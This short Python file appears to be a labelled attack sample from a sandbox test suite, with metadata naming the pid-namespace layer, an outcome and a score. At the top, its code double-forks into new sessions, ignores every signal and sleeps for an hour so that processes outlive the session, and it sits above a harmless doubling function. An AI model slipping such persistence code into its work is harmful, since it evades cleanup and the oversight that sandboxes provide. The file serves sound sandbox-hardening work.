# attack: leave daemons behind: double forks in sessions of their own, with every signal ignored
# layer: pid-namespace
# outcome: ok
# score: 2
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    for _ in range(3):
        os.fork()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for fd in range(3, 10):
        try:
            os.close(fd)
        except OSError:
            pass
    time.sleep(3600)


def double(x):
    return x * 2
